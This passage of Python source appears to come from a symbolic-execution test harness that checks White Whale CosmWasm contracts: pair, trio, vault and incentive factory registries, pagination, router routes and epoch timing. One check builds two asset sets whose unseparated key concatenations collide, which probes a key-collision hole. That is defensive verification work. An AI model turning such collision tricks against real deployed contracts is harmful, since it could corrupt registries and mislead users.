                      'a second pair for the same unordered assets is refused also when it is asked for with another pool type (one pair per asset set)')
            ck.oblige('C19.factory.remove_then_create.' + tag, p, not (p.extra['r4'].variant == 'Ok' and p.extra['entries_after_remove'] == 0 and p.ok), 'a removed entry disappears and can be created again')
        ck.require(n >= 1, 'pool factory history %s: incomplete' % tag)
    # two DIFFERENT asset sets whose sorted raw bytes concatenate to the same string (the registry key has no separator / length prefix)
    CA, CB = (('native', 'aaa'), ('native', 'zzzb')), (('native', 'aaaz'), ('native', 'zzb'))
    def body_coll(it):
        it.extra = {}; c = it.ctx; pf_world(it); env = mk_env(it, 10**18)
        for kind, name in CA + CB:
            it.world.smart_table.append((PF, it.mkv(FQ, 'NativeTokenDecimals', denom=Str(name)), it.mk(PN + 'factory::NativeTokenDecimalsResponse', decimals=c.sym('dec_' + name, 8))))
        r1 = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, *CA))
        if r1.variant != 'Ok': raise PathPruned()
        addr = 'new_pair_addr'
        it.world.smart_table.append((addr, it.mkv(PN + 'pair::QueryMsg', 'Pair'), pair_info_answer(it, addr, *CA)))
        r2 = enter(it, 'terraswap_factory', 'reply', env, None, instantiate_reply(1, addr))
        if r2.variant != 'Ok': raise PathPruned()
        it.extra['q_other'] = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Pair', asset_infos=Agg('array', [ainfo(it, CB[0]), ainfo(it, CB[1])])))
        return enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, *CB))
    n = 0
    for p in ck.explore(prog, body_coll, 'pool_factory.distinct_sets'):
        if 'q_other' not in p.extra: continue
        n += 1
        ck.sample(dict(history='create(aaa,zzzb); reply; query(aaaz,zzb); create(aaaz,zzb)', outcome=p.short()))
        q = p.extra['q_other']
        ck.oblige('C19.factory.key.distinct_sets.concat_collision', p, q.variant == 'Ok' or not p.ok,
                  'a different asset set is not answered with another set\'s pair and can get its own pair (sets {aaa, zzzb} and {aaaz, zzb}: equal concatenations)', site='pair_key concatenation')
    ck.require(n >= 1, 'pool factory distinct-sets history: incomplete')
    # same asset twice is refused
    def body_same(it):
        pf_world(it)
        return enter(it, 'terraswap_factory', 'execute', mk_env(it, 10**18), mk_info('owner', []), create_pair_msg(it, UNIVERSE[0], UNIVERSE[0]))
    for p in ck.explore(prog, body_same, 'pool_factory.same_asset'):
        ck.oblige('C19.factory.create.same_asset', p, p.ok, 'a pair of an asset with itself is refused')
    # pagination: every entry exactly once, for any limit and cursor
    def pagination(keys, sfx):
        def stored(it):
            pf_world(it)
            ents = []
            for i, (a, b) in enumerate(keys):
                ks = sorted([Str(x[1], canon=(True if x[0] == 'cw20' else None)) for x in (a, b)], key=raw_bytes)
                raw = lambda x: it.mkv(PN + 'asset::AssetInfoRaw', 'NativeToken', denom=Str(x[1])) if x[0] == 'native' else it.mkv(PN + 'asset::AssetInfoRaw', 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(x[1])]))
                ents.append(([Str(ks[0].s + ks[1].s, canon=(ks if any(k.canon for k in ks) else None))], it.mk(PN + 'asset::PairInfoRaw', asset_infos=Agg('array', [raw(a), raw(b)]), contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str('pair_%d' % i)]),
                                                        liquidity_token=it.mkv(PN + 'asset::AssetInfoRaw', 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str('lp_%d' % i)])),
                                                        asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))))
            it.world.map('pair_info', ents)
        def body_page(it):
            it.extra = {}; c = it.ctx; stored(it); env = mk_env(it, 10**18)
            lim = c.sym('limit', 32); c.assume(lim >= 1)
            seen = []; cursor = NONE()
            for rnd in range(4):
                q = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Pairs', start_after=cursor, limit=SOME(lim)))
                if q.variant != 'Ok': raise PathPruned()
                page = q.fields[0].fields[0].payload.fields[0].items
                if not page: break
                seen += [deref(x.fields[1]).s for x in page]
                last = page[-1]
                cursor = SOME(dup(last.fields[0]))
            it.extra['seen'] = seen
            return OK(UNIT())
        n = 0
        for p in ck.explore(prog, body_page, 'pool_factory.pagination' + sfx, unroll=80):
            if p.kind != 'ret': continue
            n += 1
            seen = p.extra['seen']
            ck.oblige('C19.pagination.once.pairs' + sfx, p, sorted(seen) != ['pair_0', 'pair_1', 'pair_2'], 'paging through the registry with any page size returns every entry exactly once')
        ck.require(n >= 1, 'pagination: no complete path')
        # the pair that ended the first page is removed before the client asks for the next page: the cursor is no longer a registry key
        def body_page_removed(it):
            it.extra = {}; c = it.ctx; stored(it); env = mk_env(it, 10**18)
            lim = c.sym('limit', 32); c.assume(lim >= 1)
            seen = []; cursor = NONE()
            for rnd in range(4):
                q = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Pairs', start_after=cursor, limit=SOME(lim)))
                if q.variant != 'Ok': raise PathPruned()
                page = q.fields[0].fields[0].payload.fields[0].items
                if not page: break
                seen += [deref(x.fields[1]).s for x in page]
                last = page[-1]
                cursor = SOME(dup(last.fields[0]))
                if rnd == 0:
                    a, b = keys[int(seen[-1][len('pair_'):])]
                    r = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), it.mkv(FX, 'RemovePair', asset_infos=Agg('array', [ainfo(it, a), ainfo(it, b)])))
                    if r.variant != 'Ok': raise PathPruned()
            it.extra['seen'] = seen
            return OK(UNIT())
        n = 0
        for p in ck.explore(prog, body_page_removed, 'pool_factory.pagination.removed_cursor' + sfx, unroll=80):
            if p.kind != 'ret': continue
            n += 1
            ck.oblige('C19.pagination.once.pairs.removed_cursor' + sfx, p, sorted(p.extra['seen']) != ['pair_0', 'pair_1', 'pair_2'],
                      'paging on from a cursor whose pair was removed in between still returns every remaining pair exactly once')
        ck.require(n >= 1, 'pagination with a removed cursor: no complete path')

    pagination([(UNIVERSE[0], UNIVERSE[1]), (UNIVERSE[2], UNIVERSE[0]), (UNIVERSE[3], UNIVERSE[1])], '')
    # entries whose assets order differently as TEXT and as RAW BYTES (a native denom that sorts before a cw20 address, two cw20 addresses):
    # the cursor of a listing must be turned into the registry key with the registry's own (raw byte) order
    mixed = [(('native', 'aarch'), ('cw20', 'token_aa')), (('cw20', 'token_aa'), ('cw20', 'token_zz')), (('cw20', 'contract9'), ('cw20', 'contract10'))]
    def differs(k):
        t = sorted(k, key=lambda x: x[1].encode()); r = sorted(k, key=lambda x: raw_bytes(Str(x[1], canon=(True if x[0] == 'cw20' else None))))
        return t != r
    ck.require(any(differs(k) for k in mixed), 'pagination.mixed: no entry whose text order differs from its raw byte order')
    pagination(mixed, '.mixed_order')


def trio_pagination(ck):
    prog = ck.program('terraswap_factory', 'white_whale_std')
    U = UNIVERSE
    trios = [(U[0], U[1], U[3]), (U[2], U[0], U[1]), (U[3], U[2], U[1])]
    def stored(it):
        pf_world(it)
        raw = lambda x: it.mkv(PN + 'asset::AssetInfoRaw', 'NativeToken', denom=Str(x[1])) if x[0] == 'native' else it.mkv(PN + 'asset::AssetInfoRaw', 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(x[1])]))
        ents = []
        for i, t in enumerate(trios):
            ks = sorted([Str(x[1], canon=(True if x[0] == 'cw20' else None)) for x in t], key=raw_bytes)
            ents.append(([Str(''.join(k.s for k in ks), canon=(ks if any(k.canon for k in ks) else None))],
                         it.mk(PN + 'asset::TrioInfoRaw', asset_infos=Agg('array', [raw(x) for x in t]), contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str('trio_%d' % i)]),
                               liquidity_token=it.mkv(PN + 'asset::AssetInfoRaw', 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str('tlp_%d' % i)])), asset_decimals=Agg('array', [6, 6, 6]))))
        it.world.map('trio_info', ents)
    def body_page(it):
        it.extra = {}; c = it.ctx; stored(it); env = mk_env(it, 10**18)
        lim = c.sym('limit', 32); c.assume(lim >= 1)
        seen = []; cursor = NONE()
        for rnd in range(4):
            q = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Trios', start_after=cursor, limit=SOME(lim)))
            if q.variant != 'Ok': raise PathPruned()
            page = q.fields[0].fields[0].payload.fields[0].items
            if not page: break
            seen += [deref(x.fields[1]).s for x in page]
            cursor = SOME(dup(page[-1].fields[0]))
        it.extra['seen'] = seen
        return OK(UNIT())
    n = 0
    for p in ck.explore(prog, body_page, 'pool_factory.pagination.trios', unroll=80):
        if p.kind != 'ret': continue
        n += 1
        ck.oblige('C19.pagination.once.trios', p, sorted(p.extra['seen']) != ['trio_0', 'trio_1', 'trio_2'], 'paging through the trio registry with any page size returns every entry exactly once')
    ck.require(n >= 1, 'trio pagination: no complete path')


def trio_factory(ck):
    prog = ck.program('terraswap_factory', 'white_whale_std')
    TR = UNIVERSE[:3]
    perms = list(itertools.permutations(TR, 3))
    creators = perms if ck.tier == 'thorough' else [perms[0], perms[3]]
    def create_msg(it, t):
        c = it.ctx
        pf = it.mk(PN + 'trio::PoolFee', protocol_fee=it.mk('white_whale_std::fee::Fee', share=DEC(c.sym('ct_fee_p', 64))), swap_fee=it.mk('white_whale_std::fee::Fee', share=DEC(c.sym('ct_fee_s', 64))),
                   burn_fee=it.mk('white_whale_std::fee::Fee', share=DEC(0)))
        return it.mkv(FX, 'CreateTrio', asset_infos=Agg('array', [ainfo(it, a) for a in t]), pool_fees=pf, amp_factor=c.sym('ct_amp', 64), token_factory_lp=False)
    for t in creators:
        for q in perms:
            tag = '%s.%s' % ('_'.join(a[1] for a in t), '_'.join(a[1] for a in q))
            def body(it, t=t, q=q):
                it.extra = {}; c = it.ctx; pf_world(it); env = mk_env(it, 10**18)
                r1 = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_msg(it, t))
                if r1.variant != 'Ok': raise PathPruned()
                it.extra['r1'] = r1
                addr = 'new_trio_addr'
                ans = it.mk(PN + 'asset::TrioInfo', asset_infos=Agg('array', [ainfo(it, a) for a in t]), contract_addr=Str(addr), liquidity_token=it.mkv(AI, 'Token', contract_addr=Str('lp_of_' + addr)),
                            asset_decimals=Agg('array', [6, 6, 6]))
                it.world.smart_table.append((addr, it.mkv(PN + 'trio::QueryMsg', 'Trio'), ans))
                r2 = enter(it, 'terraswap_factory', 'reply', env, None, instantiate_reply(2, addr))
                if r2.variant != 'Ok': raise PathPruned()
                it.extra['entries'] = [(list(k), dup(v)) for k, v in it.world.storage['trio_info'].entries]
                it.extra['q'] = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Trio', asset_infos=Agg('array', [ainfo(it, a) for a in q])))
                it.extra['r3'] = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_msg(it, q))
                it.extra['r4'] = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), it.mkv(FX, 'RemoveTrio', asset_infos=Agg('array', [ainfo(it, a) for a in q])))
                it.extra['n_after_remove'] = len(it.world.storage['trio_info'].entries)
                return enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_msg(it, t))
            n = 0
            for p in ck.explore(prog, body, 'trio_factory.' + tag):
                if 'r4' not in p.extra: continue
                n += 1
                subs = messages(p.extra['r1'].fields[0]); ents = p.extra['entries']
                okm = len(subs) == 1 and subs[0][1].variant == 'Wasm' and subs[0][1].fields[0].variant == 'Instantiate' and subs[0][0].fields[3].variant == 'Success'
                ck.oblige('C19.factory.trio.create.submsg.' + tag, p, not okm or zint(subs[0][1].fields[0].fields[1]) != 12, 'one instantiate submessage with the configured trio code id (reply on success)')
                ck.oblige('C19.factory.trio.reply.one_entry.' + tag, p, len(ents) != 1, 'the reply registers exactly one entry')
                if len(ents) == 1:
                    g = lambda v, nm: [x for x, f in zip(v.fields, prog.adts[v.name]['variants'][0]['fields']) if f[0] == nm][0]
                    ent = ents[0][1]
                    ck.oblige('C19.factory.trio.reply.entry.' + tag, p, not (same(g(ent, 'contract_addr').fields[0], 'new_trio_addr') and same(g(ent, 'liquidity_token').fields[0].fields[0], 'lp_of_new_trio_addr') and
                              all(same(g(ent, 'asset_infos').fields[i].fields[0].fields[0] if isinstance(g(ent, 'asset_infos').fields[i].fields[0], Agg) else g(ent, 'asset_infos').fields[i].fields[0], t[i][1]) for i in range(3))),
                              'the registry entry holds the reply address, the child\'s LP token and the assets that were instantiated')
                qv = p.extra['q']
                ck.oblige('C19.factory.key.perm.trio.' + tag, p, not (qv.variant == 'Ok' and same(qv.fields[0].fields[0].payload.fields[1], 'new_trio_addr')), 'the registry finds the trio whatever the order of the assets')
                r3 = p.extra['r3']
                ck.oblige('C19.factory.create.dup.trio.' + tag, p, not (r3.variant == 'Err' and deref(r3.fields[0]).variant == 'ExistingTrio'), 'a second trio for the same unordered assets is refused')
                ck.oblige('C19.factory.trio.remove_then_create.' + tag, p, not (p.extra['r4'].variant == 'Ok' and p.extra['n_after_remove'] == 0 and p.ok), 'a removed trio disappears (whatever order it is named in) and can be created again')
            ck.require(n >= 1, 'trio factory history %s: incomplete' % tag)


def vault_factory(ck):
    prog = ck.program('vault_factory', 'white_whale_std')
    VFX = C16.VFX
    for a in UNIVERSE[:3]:
        tag = a[1]
        def body(it, a=a):
            it.extra = {}; c = it.ctx; C16.vfactory_setup(it); env = mk_env(it, 10**18)
            if a[0] == 'cw20': it.world.cw20_info[a[1]] = dict(total_supply=c.sym('sup', 128), decimals=6)
            mk = lambda: it.mkv(VFX, 'CreateVault', asset_info=ainfo(it, a), fees=it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, c.sym('vp', 64)), flash_loan_fee=LV.vfee(it, c.sym('vl', 64)),
                                                                                         burn_fee=LV.vfee(it, 0)), token_factory_lp=False)
            r1 = enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), mk())
            if r1.variant != 'Ok': raise PathPruned()
            it.extra['r1'] = r1
            r2 = enter(it, 'vault_factory', 'reply', env, None, instantiate_reply(1, 'new_vault_addr'))
            if r2.variant != 'Ok': raise PathPruned()
            it.extra['entries'] = [(list(k), dup(v)) for k, v in it.world.storage['vaults'].entries]
            it.extra['q'] = enter(it, 'vault_factory', 'query', env, None, it.mkv('white_whale_std::vault_network::vault_factory::QueryMsg', 'Vault', asset_info=ainfo(it, a)))
            it.extra['r3'] = enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), mk())
            it.extra['r4'] = enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), it.mkv(VFX, 'RemoveVault', asset_info=ainfo(it, a)))
            it.extra['n_after_remove'] = len(it.world.storage['vaults'].entries)
            return enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), mk())
        n = 0
        for p in ck.explore(prog, body, 'vault_factory.' + tag):
            if 'r4' not in p.extra: continue
            n += 1
            subs = messages(p.extra['r1'].fields[0]); ents = p.extra['entries']
            okm = len(subs) == 1 and subs[0][1].variant == 'Wasm' and subs[0][1].fields[0].variant == 'Instantiate' and subs[0][0].fields[3].variant == 'Success'
            ck.oblige('C19.vaultf.create.submsg.' + tag, p, not okm, 'one instantiate submessage (reply on success)')
            if okm:
                im = subs[0][1].fields[0].fields[2].fields[0].payload
                g = lambda v, nm: [x for x, f in zip(v.fields, prog.adts[v.name]['variants'][0]['fields']) if f[0] == nm][0]
                ck.oblige('C19.vaultf.create.msg.' + tag, p, z3.Or(not same(g(im, 'asset_info').fields[0], a[1]), zint(subs[0][1].fields[0].fields[1]) != 21, zint(g(im, 'token_id')) != 22,
                                                                   g(g(g(im, 'vault_fees'), 'protocol_fee'), 'share').fields[0] != z3.Int('vp')), 'the child is instantiated for that asset with the configured code ids and the caller\'s fees')
            ck.oblige('C19.vaultf.reply.entry.' + tag, p, not (len(ents) == 1 and same(ents[0][1].fields[0].fields[0], 'new_vault_addr') and same(ents[0][1].fields[1].fields[0], a[1])),
                      'the registry entry holds the new vault\'s address and its asset')
            q = p.extra['q']
            ck.oblige('C19.vaultf.query.' + tag, p, not (q.variant == 'Ok' and isinstance(q.fields[0].fields[0].payload, Agg) and same(q.fields[0].fields[0].payload.fields[0], 'new_vault_addr')), 'the registry reports the vault')
            r3 = p.extra['r3']
            ck.oblige('C19.vaultf.one_per_asset.' + tag, p, not (r3.variant == 'Err' and deref(r3.fields[0]).variant == 'ExistingVault'), 'at most one vault per asset')
            ck.oblige('C19.vaultf.remove_then_create.' + tag, p, not (p.extra['r4'].variant == 'Ok' and p.extra['n_after_remove'] == 0 and p.ok), 'a removed vault disappears and can be created again')
        ck.require(n >= 1, 'vault factory history %s: incomplete' % tag)


def incentive_factory(ck):
    prog = ck.program('incentive_factory', 'white_whale_std')
    IFX = C16.IFX
    for a in (('native', 'factory_lp_denom'), ('cw20', 'lp_token_contract')):
        tag = a[1]
        def body(it, a=a):
            it.extra = {}; c = it.ctx; C16.ifactory_setup(it); env = mk_env(it, 10**18)
            if a[0] == 'cw20': it.world.cw20_info[a[1]] = dict(total_supply=c.sym('sup', 128), decimals=6)
            r1 = enter(it, 'incentive_factory', 'execute', env, mk_info('owner', []), it.mkv(IFX, 'CreateIncentive', lp_asset=ainfo(it, a)))
            if r1.variant != 'Ok': raise PathPruned()
            it.extra['r1'] = r1
            cb = it.mk(LI.I + 'InstantiateReplyCallback', lp_asset=ainfo(it, a))
            r2 = enter(it, 'incentive_factory', 'reply', env, None, instantiate_reply(1, 'new_incentive_addr', cb))
            if r2.variant != 'Ok': raise PathPruned()
            it.extra['entries'] = [(list(k), dup(v)) for k, v in it.world.storage['incentive_mappings'].entries]
            it.extra['q'] = enter(it, 'incentive_factory', 'query', env, None, it.mkv(LI.IF + 'QueryMsg', 'Incentive', lp_asset=ainfo(it, a)))
            return enter(it, 'incentive_factory', 'execute', env, mk_info('owner', []), it.mkv(IFX, 'CreateIncentive', lp_asset=ainfo(it, a)))
        n = 0
        for p in ck.explore(prog, body, 'incentive_factory.' + tag):
            if 'q' not in p.extra: continue
            n += 1
            subs = messages(p.extra['r1'].fields[0]); ents = p.extra['entries']
            okm = len(subs) == 1 and subs[0][1].variant == 'Wasm' and subs[0][1].fields[0].variant == 'Instantiate'
            ck.oblige('C19.incentivef.create.submsg.' + tag, p, not okm, 'one instantiate submessage')
            if okm:
                im = subs[0][1].fields[0].fields[2].fields[0].payload
                ck.oblige('C19.incentivef.create.msg.' + tag, p, not same(im.fields[0].fields[0], a[1]) or zint(subs[0][1].fields[0].fields[1]) != 31, 'instantiated for that LP asset with the configured code id')
            ck.oblige('C19.incentivef.reply.entry.' + tag, p, not (len(ents) == 1 and same(ents[0][1].fields[0], 'new_incentive_addr')), 'the registry maps the LP asset to the new contract')
            q = p.extra['q']
            ck.oblige('C19.incentivef.query.' + tag, p, q.variant != 'Ok', 'the registry reports the incentive contract')
            ck.oblige('C19.incentivef.one_per_lp.' + tag, p, not (p.err and deref(p.value.fields[0]).variant == 'DuplicateIncentiveContract'), 'at most one incentive contract per LP asset')
        ck.require(n >= 1, 'incentive factory history %s: incomplete' % tag)
    # reply_on Always: a failed instantiate makes the reply fail, so nothing is half-registered
    def body_err(it):
        C16.ifactory_setup(it)
        rep = Agg('cosmwasm_std::Reply', [1, Enum('cosmwasm_std::SubMsgResult', 'Err', [Str('instantiate failed')])])
        return enter(it, 'incentive_factory', 'reply', mk_env(it, 10**18), None, rep)
    for p in ck.explore(prog, body_err, 'incentive_factory.reply_err'):
        ck.oblige('C19.incentivef.reply.fails_on_error', p, p.ok or len(p.world.writes) != 0, 'the reply of a failed instantiate returns an error and writes nothing (restores atomicity for reply_on: Always)')


def pagination_more(ck):
    """vault factory and incentive factory listings: paging with any page size returns every entry exactly once."""
    progv = ck.program('vault_factory', 'white_whale_std'); progi = ck.program('incentive_factory', 'white_whale_std')
    names = ['uatom', 'uluna', 'uusd']
    VQ = 'white_whale_std::vault_network::vault_factory::QueryMsg'
    def body_v(it):
        it.extra = {}; c = it.ctx; C16.vfactory_setup(it); env = mk_env(it, 10**18)
        it.world.map('vaults', [([Str(nm)], Agg('tuple', [ADDR('vault_' + nm), ainfo(it, ('native', nm))])) for nm in names])
        lim = c.sym('limit', 32); c.assume(lim >= 1)
        seen = []; cursor = NONE()
        for rnd in range(4):
            q = enter(it, 'vault_factory', 'query', env, None, it.mkv(VQ, 'Vaults', start_after=cursor, limit=SOME(lim)))
            if q.variant != 'Ok': raise PathPruned()
            page = q.fields[0].fields[0].payload.fields[0].items
            if not page: break
            seen += [deref(x.fields[0]).s for x in page]
            cursor = SOME(dup(page[-1].fields[2]))
        it.extra['seen'] = seen
        return OK(UNIT())
    n = 0
    for p in ck.explore(progv, body_v, 'vault_factory.pagination', unroll=80):
        if p.kind != 'ret': continue
        n += 1
        ck.oblige('C19.pagination.once.vaults', p, sorted(p.extra['seen']) != sorted('vault_' + nm for nm in names), 'paging through the vault registry with any page size returns every vault exactly once')
    ck.require(n >= 1, 'vault pagination: no complete path')
    # a cursor that is no longer a registry key: the vault that ended the first page is removed before the client asks for the next page
    def body_v2(it):
        it.extra = {}; c = it.ctx; C16.vfactory_setup(it); env = mk_env(it, 10**18)
        it.world.map('vaults', [([Str(nm)], Agg('tuple', [ADDR('vault_' + nm), ainfo(it, ('native', nm))])) for nm in names])
        lim = c.sym('limit', 32); c.assume(lim >= 1)
        seen = []; cursor = NONE(); removed = None
        for rnd in range(4):
            q = enter(it, 'vault_factory', 'query', env, None, it.mkv(VQ, 'Vaults', start_after=cursor, limit=SOME(lim)))
            if q.variant != 'Ok': raise PathPruned()
            page = q.fields[0].fields[0].payload.fields[0].items
            if not page: break
            seen += [deref(x.fields[0]).s for x in page]
            cursor = SOME(dup(page[-1].fields[2]))
            if rnd == 0:
                removed = seen[-1][len('vault_'):]
                r = enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), it.mkv(C16.VFX, 'RemoveVault', asset_info=ainfo(it, ('native', removed))))
                if r.variant != 'Ok': raise PathPruned()
        it.extra['seen'] = seen
        return OK(UNIT())
    n = 0
    for p in ck.explore(progv, body_v2, 'vault_factory.pagination.removed_cursor', unroll=80):
        if p.kind != 'ret': continue
        n += 1
        ck.oblige('C19.pagination.once.vaults.removed_cursor', p, sorted(p.extra['seen']) != sorted('vault_' + nm for nm in names),
                  'paging on from a cursor whose vault was removed in between still returns every remaining vault exactly once (the cursor need not be a registry key)')
    ck.require(n >= 1, 'vault pagination with a removed cursor: no complete path')
    lps = [('native', 'uatom'), ('cw20', 'lp_token_a'), ('native', 'uluna'), ('cw20', 'lp_token_b')]
    def body_i(it):
        it.extra = {}; c = it.ctx; C16.ifactory_setup(it); env = mk_env(it, 10**18)
        keyof = lambda kind, nm: Str(nm, canon=True) if kind == 'cw20' else Str(nm)
        it.world.map('incentive_mappings', [([keyof(k, nm)], ADDR('incentive_' + nm)) for k, nm in lps])
        by_bytes = {raw_bytes(keyof(k, nm)): (k, nm) for k, nm in lps}
        lim = c.sym('limit', 32); c.assume(lim >= 1)
        seen = []; cursor = NONE()
        for rnd in range(5):
            q = enter(it, 'incentive_factory', 'query', env, None, it.mkv(LI.IF + 'QueryMsg', 'Incentives', start_after=cursor, limit=SOME(lim)))
            if q.variant != 'Ok': raise PathPruned()
            page = q.fields[0].fields[0].payload.items if isinstance(q.fields[0].fields[0].payload, VecV) else q.fields[0].fields[0].payload.fields[0].items
            if not page: break
            seen += [deref(x.fields[0]).fields[0].s for x in page]
            cursor = SOME(ainfo(it, by_bytes[raw_bytes(deref(page[-1].fields[1]))]))        # the client pages on with the LP asset of the last entry
        it.extra['seen'] = seen
        return OK(UNIT())
    n = 0
    for p in ck.explore(progi, body_i, 'incentive_factory.pagination', unroll=80):
        if p.kind != 'ret': continue
        n += 1
        ck.oblige('C19.pagination.once.incentives', p, sorted(p.extra['seen']) != sorted('incentive_' + nm for _, nm in lps), 'paging through the incentive registry (native and cw20 LP assets) with any page size returns every entry exactly once')
    ck.require(n >= 1, 'incentive pagination: no complete path')


def router_routes(ck):
    import c15 as C15
    prog = ck.program('terraswap_router', 'white_whale_std')
    RX = C16.RX
    # two hops: the first is a registered pair whose simulation of 1 unit returns any amount (0 included), the second is not registered
    def body2(it):
        c = it.ctx; C15.router_world(it); it.world.cinfo = dict(code_id=7, creator='deployer', admin='owner')
        a, b, d = UNIVERSE[0], UNIVERSE[1], UNIVERSE[3]
        it.world.smart_table.append(('factory_contract', it.mkv(FQ, 'Pair', asset_infos=Agg('array', [ainfo(it, a), ainfo(it, b)])), pair_info_answer(it, 'the_pair', a, b)))
        it.world.smart_table.append(('factory_contract', it.mkv(FQ, 'Pair', asset_infos=Agg('array', [ainfo(it, b), ainfo(it, d)])), Opaque('query_error')))
        sim = it.mk(PN + 'pair::SimulationResponse', return_amount=U128(c.sym('ret', 64)), spread_amount=U128(0), swap_fee_amount=U128(0), protocol_fee_amount=U128(0), burn_fee_amount=U128(0))
        it.world.smart_table.append(('the_pair', it.mkv(PN + 'pair::QueryMsg', 'Simulation', offer_asset=it.mk(PN + 'asset::Asset', info=ainfo(it, a), amount=U128(1))), sim))
        op = lambda x, y: it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=ainfo(it, x), ask_asset_info=ainfo(it, y))
        rt = it.mk(PN + 'router::SwapRoute', offer_asset_info=ainfo(it, a), ask_asset_info=ainfo(it, d), swap_operations=VecV([op(a, b), op(b, d)]))
        return enter(it, 'terraswap_router', 'execute', mk_env(it, 10**18), mk_info('owner', []), it.mkv(RX, 'AddSwapRoutes', swap_routes=VecV([rt])))
    n = 0
    for p in ck.explore(prog, body2, 'router.add_routes.second_hop_unregistered'):
        n += 1
        ck.oblige('C19.router.routes.only_registered.hop2', p, p.ok or len(p.world.writes) != 0, 'a route whose second hop is not a registered pair is refused whatever the first hop returns for one unit, and nothing is stored')
    ck.require(n >= 1, 'router add routes (2 hops): no path')
    for registered in (True, False):
        def body(it, registered=registered):
            c = it.ctx; C15.router_world(it); it.world.cinfo = dict(code_id=7, creator='deployer', admin='owner')
            a, b = UNIVERSE[0], UNIVERSE[1]
            fq = it.mkv(FQ, 'Pair', asset_infos=Agg('array', [ainfo(it, a), ainfo(it, b)]))
            it.world.smart_table.append(('factory_contract', fq, pair_info_answer(it, 'the_pair', a, b) if registered else Opaque('query_error')))
            sim = it.mk(PN + 'pair::SimulationResponse', return_amount=U128(c.sym('ret', 64)), spread_amount=U128(0), swap_fee_amount=U128(0), protocol_fee_amount=U128(0), burn_fee_amount=U128(0))
            it.world.smart_table.append(('the_pair', it.mkv(PN + 'pair::QueryMsg', 'Simulation', offer_asset=it.mk(PN + 'asset::Asset', info=ainfo(it, a), amount=U128(1))), sim))
            return enter(it, 'terraswap_router', 'execute', mk_env(it, 10**18), mk_info('owner', []), it.mkv(RX, 'AddSwapRoutes', swap_routes=VecV([C16.route(it)])))
        n = 0
        for p in ck.explore(prog, body, 'router.add_routes.%s' % ('registered' if registered else 'unregistered')):
            n += 1
            if registered: ck.oblige('C19.router.routes.registered_ok', p, not p.ok, 'a route over a registered pair is stored')
            else: ck.oblige('C19.router.routes.only_registered', p, p.ok or len(p.world.writes) != 0, 'a route with a hop that is not a registered pair is refused and nothing is stored')
        ck.require(n >= 1, 'router add routes: no path')


def main():
    ck = Check('C19')
    pool_factory(ck); trio_factory(ck); trio_pagination(ck); vault_factory(ck); incentive_factory(ck); pagination_more(ck); router_routes(ck)
    import c14_router
    c14_router.hop_execution(ck, ck.program('terraswap_router', 'white_whale_std'))          # executed hops go through the registered pair only
    ck.bounds.update(assets='universe of 3 native + 1 cw20 assets; quick: 4 ordered pairs, thorough: all 12', registry='pagination over 3 stored pairs with a symbolic page size',
                     symbolic='decimals, code ids, fees, page size; asset names and reply addresses concrete (byte-string key code)')
    ck.outside += ['collisions of un-delimited concatenated byte keys', 'collisions of registry keys of different asset sets']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
