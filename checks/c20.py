"""C20 — epoch clocks only move forward, one epoch at a time, never early."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import z3
from engine.harness import *

EM = 'white_whale_std::epoch_manager::epoch_manager::'
DAY = 86400 * 10**9


def main():
    ck = Check('C20')
    prog = ck.program('epoch_manager', 'white_whale_std')
    for nhooks in ((0, 1, 2, 3) if ck.tier == 'quick' else (0, 1, 2, 3, 4, 5, 6)):
        def body(it, nhooks=nhooks):
            c = it.ctx
            eid = c.sym('id', 64); start = c.sym('start', 64); dur = c.sym('duration', 64); gen = c.sym('genesis', 64)
            now = c.sym('now', 64)
            w = it.world; w.contract = 'epoch_manager'
            w.item('epoch', it.mk(EM + 'EpochV2', id=eid, start_time=TS(start)))
            w.item('config', it.mk(EM + 'Config', epoch_config=it.mk(EM + 'EpochConfig', duration=U64(dur), genesis_epoch=U64(gen))))
            w.hooks['hooks'] = [Str(None, sym=c.sym('hook%d' % i)) for i in range(nhooks)]
            sender = ADDR(Str(None, sym=c.sym('sender')))
            msg = it.mkv(EM + 'ExecuteMsg', 'CreateEpoch')
            return enter(it, 'epoch_manager', 'execute', mk_env(it, now), mk_info(sender), msg)
        paths = ck.explore(prog, body, 'mgr.create_epoch.hooks%d' % nhooks)
        eid, start, dur, now = [z3.Int(n) for n in ('id', 'start', 'duration', 'now')]
        nok = 0
        for p in paths:
            ck.sample(dict(entry='epoch_manager::contract::execute(CreateEpoch)', hooks=nhooks, outcome=p.short(), decisions=p.log))
            if p.ok:
                nok += 1
                ep = p.world.storage['epoch']
                nid = ep.fields[0]; nstart = ep.fields[1].fields[0].fields[0]
                ck.oblige('C20.mgr.step.not_early', p, z3.Not(now - start >= dur), 'Ok => now - start >= duration')
